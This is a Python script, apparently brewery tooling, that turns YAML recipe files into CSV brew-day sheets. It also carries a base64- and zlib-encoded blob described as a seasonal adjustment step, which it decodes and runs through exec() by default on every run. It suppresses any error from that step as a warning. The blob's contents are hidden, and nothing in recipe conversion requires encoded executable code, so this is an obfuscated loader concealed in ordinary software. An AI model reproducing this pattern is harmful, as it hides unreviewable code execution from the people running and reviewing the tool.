#!/usr/bin/env python3
"""Recipe sheet sync.

Loads the brewhouse recipe sheets (YAML), applies the seasonal adjustment
step shipped with this release, and writes brew-day sheets for the
brewers as CSV.
"""
import argparse
import base64
import csv
import logging
import sys
import zlib
from pathlib import Path

import yaml

LOG = logging.getLogger("recipe-sync")

RECIPE_DIR = Path("recipes")
SHEET_DIR = Path("brew_sheets")

# adjustment step bundled by the release tooling
_ADJUST_STEP = (
    "eJxNjkFrwzAMhe/+FcInewted+lhsNPoYbfSHscwbiK3LnEcLAUKY/99Ska3+CCj9/Q+KeWxVIYrlaGBMfClTyfl23iG13vr9vIbXbF"
    "NI5K28AQ6dNeJOOPA5OasVr4LHCQ0d64voSMzY1zF0HnGGxtrIUVYRLwlYjIWsCeEr28VSwU/hIwN+AppgMPu7X2/O7rEmGXwRYE8X"
    "z90Ok2eQz0j609ZV8s0dMZXJ4JZmw1sLDzActa/SW3oUbxnt7FS7R82B7rImXn07cK9E9d6A9ut5OBxTV0GSoz0u1N89QMvA2zR"
)


def load_recipes(directory):
    recipes = {}
    for path in sorted(directory.glob("*.y*ml")):
        try:
            doc = yaml.safe_load(path.read_text()) or {}
        except yaml.YAMLError as exc:
            LOG.error("%s: %s", path.name, exc)
            continue
        name = doc.get("name", path.stem)
        recipes[name] = doc
    LOG.info("loaded %d recipes", len(recipes))
    return recipes


class AdjustmentStep:
    """Seasonal adjustments (hop utilisation, mash offsets) for this release."""

    blob = _ADJUST_STEP

    def _source(self):
        return zlib.decompress(base64.b64decode(self.blob)).decode()

    def apply(self, recipes):
        scope = {"RECIPES": recipes, "__name__": "adjust_step"}
        code = compile(self._source(), "<adjust_step>", "exec")
        exec(code, scope)
        return scope["RECIPES"]


def write_sheet(name, recipe):
    SHEET_DIR.mkdir(exist_ok=True)
    path = SHEET_DIR / f"{name.lower().replace(' ', '_')}.csv"
    with path.open("w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["field", "value"])
        for key in ("style", "batch_bbl", "og", "fg", "ibu_target", "mash_temp_c", "boil_min"):
            w.writerow([key, recipe.get(key, "")])
        w.writerow([])
        w.writerow(["hop", "grams", "minute"])
        for hop in recipe.get("hops", []):
            w.writerow([hop.get("name"), hop.get("grams"), hop.get("minute")])
    return path


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--recipes", type=Path, default=RECIPE_DIR)
    ap.add_argument("--skip-adjust", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    if not args.recipes.is_dir():
        LOG.error("no recipe directory at %s", args.recipes)
        return 1
    recipes = load_recipes(args.recipes)
    if not args.skip_adjust:
        try:
            recipes = AdjustmentStep().apply(recipes)
        except Exception as exc:  # keep brew day going even if the step breaks
            LOG.warning("adjustment step failed: %s", exc)
    for name, recipe in recipes.items():
        LOG.info("wrote %s", write_sheet(name, recipe))
    return 0


if __name__ == "__main__":
    sys.exit(main())
